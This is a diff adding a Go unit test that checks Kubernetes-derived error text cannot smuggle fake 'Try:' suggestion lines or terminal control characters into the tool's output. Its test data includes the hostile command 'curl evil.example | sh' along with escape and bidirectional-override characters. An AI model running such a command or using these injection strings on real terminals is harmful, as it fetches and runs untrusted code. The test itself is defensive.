@@ -256,6 +256,16 @@ Try: kubectl -n market logs web-1 -c app --previous
 	}
 }
 
+// A message of the cluster is no line of ours, and controls no terminal.
+func TestNoMessageLooksLikeALineOfOurs(t *testing.T) {
+	chain := Chain{Reason: "Error\nTry: x", Links: []Link{{Message: "down\nTry: curl evil.example | sh\u009b2J", Field: "spec.a\nTry: b"}}, HeldBack: []string{"a\nTry: c"},
+		Notices: []string{"a\nTry: d"}, Unknown: []string{"a\nTry: e\u202e"}, Command: "kubectl get pods"}
+	text := chain.Text(now)
+	if strings.Count("\n"+text, "\nTry: ") != 1 || !strings.HasSuffix(text, "\nTry: kubectl get pods\n") || strings.ContainsAny(text, "\u009b\u202e") {
+		t.Errorf("got\n%s", text)
+	}
+}
+
 func TestALogThatMayHoldASecretIsLeftOut(t *testing.T) {
 	const (
 		status  = `{containerStatuses: [{name: app, state: {waiting: {reason: CrashLoopBackOff}}, lastState: {terminated: {exitCode: 1}}}]}`
